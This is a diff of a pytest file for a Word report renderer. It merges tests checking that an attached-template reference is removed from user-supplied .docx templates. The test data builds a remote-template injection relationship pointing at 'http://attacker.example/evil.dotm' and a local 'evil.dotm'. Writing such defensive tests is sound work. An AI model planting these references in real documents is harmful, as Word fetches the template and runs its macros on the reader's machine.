@@ -251,25 +251,28 @@ def test_a_user_template_still_renders_like_the_shipped_one(workbook, tmp_path: 
     assert docx.Document(io.BytesIO(worker)).paragraphs[0].text.endswith("工作总结")
 
 
-def test_an_attached_remote_template_is_dropped(workbook, tmp_path: Path):
+@pytest.mark.parametrize(
+    ("target", "element"),
+    [
+        ("http://attacker.example/evil.dotm", '<w:attachedTemplate r:id="rId99"/>'),
+        ("file:///C:/evil.dotm", '<w:attachedTemplate r:id="rId99"></w:attachedTemplate>'),
+    ],
+    ids=["remote", "end tag"],
+)
+def test_an_attached_template_is_dropped(workbook, tmp_path: Path, target, element):
     """Word fetches an attached template (and runs its macros) when it opens a document:
     a report never points at one."""
     rels = (
-        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
-        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
-        b'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="http://attacker.example/evil.dotm" TargetMode="External"/>'
-        b"</Relationships>"
-    )
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+        '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'
+    ).encode()
     staged = with_parts(
         default_template("zh"), tmp_path / "stage.docx", {"word/_rels/settings.xml.rels": rels}
     )
     template = docx_with(
-        staged,
-        tmp_path / "remote.docx",
-        "word/settings.xml",
-        "<w:zoom",
-        '<w:attachedTemplate r:id="rId99"/><w:zoom',
+        staged, tmp_path / "att.docx", "word/settings.xml", "<w:zoom", element + "<w:zoom"
     )
     out = tmp_path / "r.docx"
     done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
@@ -277,7 +280,7 @@ def test_an_attached_remote_template_is_dropped(workbook, tmp_path: Path):
     with zipfile.ZipFile(out) as report:
         for name in report.namelist():
             content = report.read(name)
-            assert b"attacker.example" not in content and b"attachedTemplate" not in content, name
+            assert b"evil" not in content and b"attachedTemplate" not in content, name
     assert docx.Document(out).paragraphs[0].text.endswith("工作总结")
 
 
@@ -322,28 +325,3 @@ def test_external_content_is_refused(workbook, tmp_path: Path):
     )
     done, _ = run_measured("render", str(workbook), "-t", str(link), "-o", str(tmp_path / "l.docx"))
     assert done.returncode == 0, done.stderr  # a hyperlink is the reader's own click
-
-
-def test_an_attached_template_written_with_an_end_tag(workbook, tmp_path: Path):
-    rels = (
-        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
-        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
-        b'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="file:///C:/evil.dotm" TargetMode="External"/></Relationships>'
-    )
-    staged = with_parts(
-        default_template("zh"), tmp_path / "stage.docx", {"word/_rels/settings.xml.rels": rels}
-    )
-    template = docx_with(
-        staged,
-        tmp_path / "att.docx",
-        "word/settings.xml",
-        "<w:zoom",
-        '<w:attachedTemplate r:id="rId99"></w:attachedTemplate><w:zoom',
-    )
-    out = tmp_path / "r.docx"
-    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
-    assert done.returncode == 0, done.stderr
-    with zipfile.ZipFile(out) as report:
-        assert b"attachedTemplate" not in report.read("word/settings.xml")
-        assert b"evil" not in report.read("word/_rels/settings.xml.rels")
